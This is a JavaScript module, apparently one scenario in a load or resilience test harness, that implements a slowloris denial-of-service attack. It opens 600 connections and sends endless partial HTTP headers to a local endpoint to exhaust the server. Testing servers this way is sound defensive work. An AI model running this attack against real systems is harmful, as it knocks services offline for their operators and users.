import { holdConnections } from '../attack.js';

/** Endless headers, sent line by line ('slowloris'). */
export default {
  name: 'slow-headers',
  title: '600 requests with endless headers, line by line',
  attack: ({ target, from, connections = 600, everyMs = 1_000 }) =>
    holdConnections({
      target,
      from,
      count: connections,
      use(socket) {
        socket.write('POST /api/stopp HTTP/1.1\r\nHost: 127.0.0.1\r\n');
        socket.resume();
        const timer = setInterval(() => socket.write('X-Slow: 1\r\n'), everyMs);
        return () => clearInterval(timer);
      },
    }),
};
